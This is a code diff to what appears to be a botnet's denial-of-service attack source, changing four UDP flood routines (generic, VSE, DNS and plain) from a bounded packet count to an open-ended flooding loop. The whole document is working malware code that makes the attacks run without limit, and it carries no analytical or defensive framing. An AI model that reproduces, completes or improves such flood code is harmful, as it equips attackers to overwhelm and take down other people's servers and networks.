@@ -66,7 +66,7 @@ void attack_udp_generic(ATTACK_ARGUMENTS)
         fill_headers(packets[i], tos, ident, ttl, dont_fragment, source_port, destination_port,
                      source, size);
     }
-    while (packets_left > 0) {
+    while (FLOODING) {
         for (i = 0; i < target_count; i++) {
             struct ip_header *ip = (struct ip_header *)packets[i];
             struct udp_header *udp = (struct udp_header *)(ip + 1);
@@ -111,7 +111,7 @@ void attack_udp_vse(ATTACK_ARGUMENTS)
         util_memcpy(payload + 4, query, length);
     }
     STRING_CLOSE(VSE_QUERY);
-    while (packets_left > 0) {
+    while (FLOODING) {
         for (i = 0; i < target_count; i++) {
             struct ip_header *ip = (struct ip_header *)packets[i];
             struct udp_header *udp = (struct udp_header *)(ip + 1);
@@ -191,7 +191,7 @@ void attack_udp_dns(ATTACK_ARGUMENTS)
         question.class = htons(1);
         memcpy(name + 1 + label + domain_length + 2, &question, sizeof(question));
     }
-    while (packets_left > 0) {
+    while (FLOODING) {
         for (i = 0; i < target_count; i++) {
             struct ip_header *ip = (struct ip_header *)packets[i];
             struct udp_header *udp = (struct udp_header *)(ip + 1);
@@ -239,7 +239,7 @@ void attack_udp_plain(ATTACK_ARGUMENTS)
         bind(fds[i], (struct sockaddr *)&from, sizeof(from));
         targets[i].sock_addr.sin_addr.s_addr = attack_draw_address(&targets[i]);
     }
-    while (packets_left > 0) {
+    while (FLOODING) {
         for (i = 0; i < target_count; i++) {
             if (random_payload)
                 rand_bytes(packets[i], size);
